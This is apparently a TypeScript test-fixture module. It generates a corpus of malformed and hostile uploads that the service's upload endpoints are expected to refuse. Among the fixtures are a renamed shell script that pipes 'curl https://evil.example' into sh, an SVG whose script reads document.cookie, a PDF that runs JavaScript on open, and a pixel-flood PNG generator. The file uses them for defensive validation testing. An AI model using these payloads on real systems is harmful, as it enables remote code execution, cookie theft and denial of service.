import { crc32, deflateSync } from "node:zlib";
import type { FileRefusalCode } from "@/api/problem-codes";
import { DAMAGE_PHOTO_POLICY, LICENCE_POLICY, type UploadCandidate, type UploadPolicy } from "./upload-validation";

/**
 * The bad files of issue 5 "Uploads", generated, so the corpus needs no binary fixtures: every
 * upload endpoint must refuse each of them with 413, 415 or 422 and store nothing.
 */
export interface BadUpload extends UploadCandidate {
  what: string;
  policy: UploadPolicy;
  status: 413 | 415 | 422;
  /** The answer's code when the status alone does not tell it (`UPLOAD_REFUSAL_CODES`). */
  code?: FileRefusalCode;
}

const JPEG_HEADER = [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, ...Buffer.from("JFIF\0"), 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00];

/** A JPEG marker segment: the marker, its length (counting itself), its data. */
function segment(marker: number, data: readonly number[]): number[] {
  return [0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff, ...data];
}

/** A Huffman table of one symbol with the one-bit code "0" (class 0 DC, class 1 AC). */
const oneSymbolTable = (tableClass: number, symbol: number) => segment(0xc4, [tableClass << 4, 1, ...new Array<number>(15).fill(0), symbol]);

/**
 * A real baseline JPEG of the given size, a uniform grey that every decoder reads: one component,
 * each 8×8 block coded as "DC unchanged, end of block" (two bits, with one-symbol Huffman tables),
 * so a 12-megapixel image is some 47 KB; `totalBytes` pads it with comment segments to that size.
 */
export function jpegWithSize(width: number, height: number, totalBytes = 0): Uint8Array {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const scan = new Uint8Array(Math.ceil((blocks * 2) / 8));
  const usedBits = (blocks * 2) % 8;
  // The last byte's unused bits are ones, as the standard pads; it never becomes 0xFF.
  if (usedBits !== 0) scan[scan.length - 1] = (1 << (8 - usedBits)) - 1;
  const head = [
    ...JPEG_HEADER,
    ...segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]),
    ...segment(0xc0, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]),
    ...oneSymbolTable(0, 0),
    ...oneSymbolTable(1, 0),
    ...segment(0xda, [1, 1, 0x00, 0, 63, 0]),
  ];
  const bare = head.length + scan.length + 2;
  return new Uint8Array(
    Buffer.concat([Buffer.from(head.slice(0, 2)), commentPadding(totalBytes - bare), Buffer.from(head.slice(2)), scan, Buffer.from([0xff, 0xd9])]),
  );
}

/** COM segments of `bytes` bytes in all (none for 0 or less; at least 4 otherwise). */
function commentPadding(bytes: number): Buffer {
  const chunks: Buffer[] = [];
  let left = Math.max(bytes, 0);
  while (left > 0) {
    let size = Math.min(left, 0xffff + 2);
    if (left - size > 0 && left - size < 4) size -= 4;
    if (size < 4) throw new Error(`Cannot pad a JPEG by ${bytes} bytes.`);
    const chunk = Buffer.alloc(size, 0x20);
    chunk.set([0xff, 0xfe, (size - 2) >> 8, (size - 2) & 0xff]);
    chunks.push(chunk);
    left -= size;
  }
  return Buffer.concat(chunks);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, "ascii"), data])));
  return Buffer.concat([length, Buffer.from(type, "ascii"), data, crc]);
}

function pngOf(width: number, height: number, idat: Buffer): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(Buffer.concat([signature, pngChunk("IHDR", header), pngChunk("IDAT", idat), pngChunk("IEND", Buffer.alloc(0))]));
}

/** A real black RGB PNG of the given size, which every decoder reads. */
export function pngWithSize(width: number, height: number): Uint8Array {
  // Each row is its filter byte (0, none) and three zero bytes a pixel.
  return pngOf(width, height, deflateSync(Buffer.alloc((1 + width * 3) * height)));
}

/** A PNG whose header claims the given size, with a tiny compressed body (a "pixel flood"). */
export function pixelFloodPng(width: number, height: number): Uint8Array {
  return pngOf(width, height, deflateSync(Buffer.alloc(1024)));
}

export function badUploadCorpus(): BadUpload[] {
  return [
    {
      what: "a photo of 6 MB plus one byte",
      name: "damage.jpg",
      bytes: jpegWithSize(4000, 3000, DAMAGE_PHOTO_POLICY.maxBytes + 1),
      policy: DAMAGE_PHOTO_POLICY,
      status: 413,
    },
    {
      what: "a licence of 10 MB plus one byte",
      name: "licence.pdf",
      bytes: padded("%PDF-1.4\n", LICENCE_POLICY.maxBytes + 1),
      policy: LICENCE_POLICY,
      status: 413,
    },
    { what: "zero bytes", name: "empty.jpg", bytes: new Uint8Array(0), policy: DAMAGE_PHOTO_POLICY, status: 422 },
    {
      what: "a script renamed .jpg",
      name: "photo.jpg",
      bytes: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "an SVG with a script",
      name: "photo.svg",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a PDF with JavaScript",
      name: "licence.pdf",
      bytes: Buffer.from(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
      ),
      policy: LICENCE_POLICY,
      status: 422,
      code: "file_active_content",
    },
    {
      what: "a HEIC with wrong magic bytes",
      name: "photo.heic",
      bytes: Buffer.from("\0\0\0\x18ftypXXXX\0\0\0\0mif1heic"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a pixel flood (PNG of 100,000 × 100,000 in a few KB)",
      name: "flood.png",
      bytes: pixelFloodPng(100_000, 100_000),
      policy: DAMAGE_PHOTO_POLICY,
      status: 422,
    },
    { what: "a JPEG named .png", name: "photo.png", bytes: jpegWithSize(4000, 3000), policy: DAMAGE_PHOTO_POLICY, status: 415 },
    { what: "a PDF as a damage photo", name: "photo.pdf", bytes: Buffer.from("%PDF-1.4\n%%EOF\n"), policy: DAMAGE_PHOTO_POLICY, status: 415 },
  ];
}

function padded(start: string, size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(Buffer.from(start, "latin1"));
  return bytes;
}
